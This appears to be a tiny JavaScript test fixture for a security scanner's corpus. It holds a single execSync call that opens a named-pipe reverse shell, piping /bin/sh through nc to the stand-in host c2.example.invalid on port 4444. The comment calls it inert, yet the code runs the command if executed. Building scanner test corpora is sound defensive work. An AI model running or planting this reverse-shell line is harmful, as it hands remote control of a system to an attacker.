// TEST SAMPLE: inert, for the scanner corpus
const { execSync } = require("child_process");
execSync("rm -f /tmp/p; mkfifo /tmp/p; /bin/sh -i < /tmp/p 2>&1 | nc c2.example.invalid 4444 > /tmp/p");
